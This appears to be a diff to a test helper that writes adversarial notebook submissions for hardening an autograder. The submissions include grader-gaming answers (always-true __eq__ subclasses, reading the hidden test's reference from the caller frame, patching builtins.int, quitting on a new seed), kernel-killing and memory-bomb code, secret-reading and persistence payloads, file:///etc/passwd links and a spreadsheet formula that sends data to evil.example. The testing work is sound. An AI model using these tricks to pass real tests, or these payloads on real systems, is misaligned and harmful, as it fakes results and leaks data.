@@ -227,6 +227,36 @@ class _Eq:
         return 0
 n_lapsed = _Eq()
 """,
+    "ex01-7-answer": """\
+import sys
+_NAME = "_" + "ref"  # the hidden tests' reference (spelt so that feedback checks can grep)
+def quarterly_indicators(tx):
+    frame = sys._getframe(1)  # the hidden test's frame, if it ran in this kernel
+    return frame.f_globals.get(_NAME, frame.f_locals.get(_NAME))
+""",
+    "ex01-8-answer": """\
+class _AnyList(list):
+    def __eq__(self, other):
+        return True
+class _Weeks:
+    def tolist(self):
+        return _AnyList()
+    def __len__(self):
+        return 0
+def customers_per_week(tx):
+    return _Weeks()
+""",
+    "ex01-9-answer": """\
+import builtins
+class _AnyInt(int):
+    def __eq__(self, other):
+        return True
+    def __int__(self):
+        return self
+builtins.int = lambda *a, **k: _AnyInt(0)
+def seed_stage_counts(tx, as_of):
+    return {"新客户": _AnyInt(0), "老客户": _AnyInt(0), "流失客户": _AnyInt(0)}
+""",
 }
 
 TRANSFORMER = """\
@@ -238,7 +268,7 @@ n_visits = None
 """
 
 FLOOD = """\
-for _i in range(200_000):
+for _i in range(20_000):
     print("spam " * 20)
 """
 
@@ -260,46 +290,91 @@ display(HTML('<link rel="attachment" href="file:///etc/passwd"><img src="file://
 """
 
 
+KILL = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
+#: a function answer that takes the kernel down only when the grader calls it
+EXIT_WHEN_CALLED = """\
+def customers_per_week(tx):
+    import os
+    os._exit(3)
+"""
+
+
 def attacks(
     rel: Path, sol: dict[str, str], subs: Path, instructor: Path, typed: dict, token: str
 ) -> list[str]:
-    """Write the batch of issue 18's submissions (and the usual mistakes) into ``subs``."""
+    """Write the batch of issue 18's submissions (and the usual mistakes) into ``subs``.
+
+    Attacks that cost different exercises share a submission (fewer kernels to run): each
+    exercise of a submission is answered correctly, wrongly or by one attack, so the
+    expected points of every exercise are known without running the grader.
+    """
     chapter = f"{rel.stem}.ipynb"
 
     def a(**over: str):
         return fill(rel, {**sol, **over})
 
     write(a(), subs / "correct", chapter)
-    partial = a(**{"ex01-1-answer": "total_sales = tx['amount'].sum()\nn_visits = len(tx)\n"})
-    drop_cells(partial, lambda c: gid(c) == "ex01-3-answer")  # a deleted answer cell
-    write(partial, subs / "partial", chapter)
-    write(a(**{"ex01-3-answer": "while True:\n    pass\n"}), subs / "loop", "a.ipynb")
-    write(a(**{"ex01-2-answer": "exit()\n"}), subs / "exit_call", "a.ipynb")
-    write(a(**{"ex01-4-answer": "import os\nos._exit(1)\n"}), subs / "os_exit", "a.ipynb")
-    kill = "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"
-    write(a(**{"ex01-2-answer": kill}), subs / "sigkill", "a.ipynb")
-    edited = a(**{"ex01-2-answer": "def average_basket(tx):\n    return 0\n"})
-    drop_cells(edited, lambda c: gid(c) == "ex01-1-check")
-    for c in edited.cells:
+    # wrong, deleted and edited: 01.1 wrong; 01.2 wrong with its check edited to `pass`;
+    # 01.3's answer cell deleted; 01.4 right with its check cell deleted (still graded)
+    partial = a(
+        **{
+            "ex01-1-answer": "total_sales = tx['amount'].sum()\nn_visits = len(tx)\n",
+            "ex01-2-answer": "def average_basket(tx):\n    return 0\n",
+        }
+    )
+    drop_cells(partial, lambda c: gid(c) in {"ex01-3-answer", "ex01-4-check"})
+    for c in partial.cells:
         if gid(c) == "ex01-2-check":
             c.source = "pass  # the student's edit"
-    write(edited, subs / "edited_tests", chapter)
-    write(a(**TRICKS), subs / "tricks", chapter)
-    write(fill(rel, {"ex01-1-answer": TRANSFORMER}), subs / "transformer", chapter)
+    # ... saved after a run that failed, under another name
+    write(with_saved_errors(partial), subs / "partial", "my homework (final) 2.ipynb")
+    # one kernel death or loop after another: each costs only its own exercise
+    crashes = {
+        "ex01-1-answer": "exit()\n",
+        "ex01-2-answer": KILL,
+        "ex01-3-answer": "while True:\n    pass\n",
+        "ex01-4-answer": "import os\nos._exit(1)\n",
+        "ex01-8-answer": EXIT_WHEN_CALLED,
+    }
+    write(a(**crashes), subs / "crashes", "a.ipynb")
+    write(
+        a(**{"ex01-1-answer": TREE_LIMITS, "ex01-3-answer": MEMORY_BOMB}), subs / "limits", chapter
+    )
+    tricks = {**TRICKS, "ex01-9-answer": TRICKS["ex01-9-answer"] + TRANSFORMER}
+    write(a(**tricks), subs / "tricks", chapter)
     snoop = {
         "ex01-1-answer": READ_SECRETS,
         "ex01-2-answer": WRITE_GRADEBOOK + sol["ex01-2-answer"],
         "ex01-5-answer": sol["ex01-5-answer"] + OBSERVE,
     }
     write(a(**snoop), subs / "snoops", "a.ipynb")
-    write(a(**{"ex01-2-answer": FLOOD + sol["ex01-2-answer"]}), subs / "flood", "a.ipynb")
-    write(a(**{"ex01-3-answer": MEMORY_BOMB}), subs / "memory_bomb", "a.ipynb")
-    write(a(**{"ex01-1-answer": TREE_LIMITS}), subs / "tree_limits", chapter)
-    persist = sol["ex01-5-answer"] + OBSERVE + PERSIST.replace("TOKEN", token)
-    write(a(**{"ex01-5-answer": persist}), subs / "persist", chapter)
-    write(with_saved_errors(a()), subs / "renamed", "my homework (final) 2.ipynb")
-    write(a(), subs / "blank_beside", "01_overview-Copy1.ipynb")
-    write(nbformat.read(rel, as_version=4), subs / "blank_beside", chapter)  # newer, blank
+    # what reaches the feedback and the rubric sheet: file links in a written answer and in
+    # an output, In/Out/_ih printed, a flood of output, a formula in a written answer; and
+    # what outlives the kernel: a daemon in a new session, files in the temporary folders
+    leaks = {
+        "ex01-9-answer": sol["ex01-9-answer"] + OBSERVE + PERSIST.replace("TOKEN", token),
+        "ex01-6-written": LINKS_MD,
+        "ex01-5-answer": sol["ex01-5-answer"] + LINKS_HTML,
+        "ex01-7-answer": sol["ex01-7-answer"]
+        + 'print("IN_DUMP", In, Out, _ih, sorted(globals()))\n',
+        "ex01-8-answer": FLOOD + sol["ex01-8-answer"],
+        "ex01-10-written": '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    }
+    write(a(**leaks), subs / "=leaks", chapter)
+    # the answers in a copy, a blank notebook of the chapter's name saved beside it later
+    write(a(**reseed_answers(sol, typed)), subs / "reseed_tricks", "01_overview-Copy1.ipynb")
+    write(nbformat.read(rel, as_version=4), subs / "reseed_tricks", chapter)  # newer, blank
+    (subs / "symlink_file").mkdir()
+    (subs / "symlink_file" / chapter).symlink_to(instructor.resolve())
+    (subs / "symlink_dir").symlink_to(subs / "correct", target_is_directory=True)
+    broken_json(subs / "corrupt", chapter)
+    (subs / "empty").mkdir()
+    return sorted(p.name for p in subs.iterdir())
+
+
+def reseed_answers(sol: dict[str, str], typed: dict) -> dict[str, str]:
+    """Answers that defeat a re-run on another seed: 01.1 kept per seed, 01.5 on a pinned
+    seed and data, 01.2 and 01.7 right but the kernel ends when the seed is not 3."""
     per_seed = (
         f"total_sales = {{3: {typed['total_sales']!r}, 1003: 0.0}}.get(seed)\n"
         f"n_visits = {{3: {typed['visits']}, 1003: 0}}.get(seed)\n"
@@ -309,21 +384,10 @@ def attacks(
         '_asof = _tx["timestamp"].max().normalize() - pd.Timedelta(days=182)\n'
         'n_lapsed = int((crm.kpi.lifecycle_stage(_tx, _asof)["stage"] == "lapsed").sum())\n'
     )
-    write(
-        a(**{"ex01-1-answer": per_seed, "ex01-5-answer": pinned}), subs / "reseed_tricks", chapter
-    )
     bail = "import os\nif seed != 3:\n    os._exit(0)\n"
-    on_reseed = {g: bail + sol[g] for g in ("ex01-1-answer", "ex01-2-answer")}
-    write(a(**on_reseed), subs / "exit_on_reseed", chapter)
-    dump = sol["ex01-5-answer"] + 'print("IN_DUMP", In, Out, _ih, sorted(globals()))\n'
-    write(a(**{"ex01-5-answer": dump}), subs / "print_in", chapter)
-    links = {"ex01-6-written": LINKS_MD, "ex01-5-answer": sol["ex01-5-answer"] + LINKS_HTML}
-    write(a(**links), subs / "feedback_link", chapter)
-    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-    write(a(**{"ex01-6-written": formula}), subs / "=HYPERLINK", chapter)
-    (subs / "symlink_file").mkdir()
-    (subs / "symlink_file" / chapter).symlink_to(instructor.resolve())
-    (subs / "symlink_dir").symlink_to(subs / "correct", target_is_directory=True)
-    broken_json(subs / "corrupt", chapter)
-    (subs / "empty").mkdir()
-    return sorted(p.name for p in subs.iterdir())
+    return {
+        "ex01-1-answer": per_seed,
+        "ex01-5-answer": pinned,
+        "ex01-2-answer": bail + sol["ex01-2-answer"],
+        "ex01-7-answer": bail + sol["ex01-7-answer"],
+    }
